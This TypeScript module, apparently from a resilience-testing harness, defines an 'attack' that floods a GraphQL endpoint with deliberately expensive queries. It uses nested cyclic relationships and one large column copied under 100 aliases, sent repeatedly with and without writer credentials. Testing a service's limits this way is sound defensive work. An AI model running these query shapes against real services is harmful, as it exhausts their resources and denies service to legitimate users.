import { hostileRequests, repeat, type Attack } from './attack.ts';

const AT_ONCE = 2;
const PAUSE_MS = 200;
const ADDRESS = '203.0.113.5';
const TIMES = 3;
const ALIASES = 100;

/** Relationships that lead back: each level has 300 times as many rows. */
const CYCLES = `{ newsletters { ${'deliveries { newsletter { '.repeat(TIMES)}id${' } }'.repeat(TIMES)} } }`;
const copies = (table: string, column: string) =>
  `{ ${table} { ${Array.from({ length: ALIASES }, (_, at) => `c${at}: ${column}`).join(' ')} } }`;

/**
 * Sends short requests with immense answers: cycles of relationships and one long column many times, the second as a
 * program and as a stranger.
 */
export const costlyShapes: Attack = (target) => {
  const requests = hostileRequests(target);
  const asProgram = { address: ADDRESS, headers: target.writer };
  const ends = Array.from({ length: AT_ONCE }, () => [
    repeat(() => requests.post({ query: CYCLES }, asProgram), PAUSE_MS),
    repeat(() => requests.post({ query: copies('newsletters', 'content') }, asProgram), PAUSE_MS),
    repeat(() => requests.post({ query: copies('legal_pages', 'body') }, { address: ADDRESS }), PAUSE_MS),
  ]).flat();

  return Promise.resolve({
    stop: () => {
      for (const end of ends) end();
      return Promise.resolve(requests.hangUp());
    },
  });
};
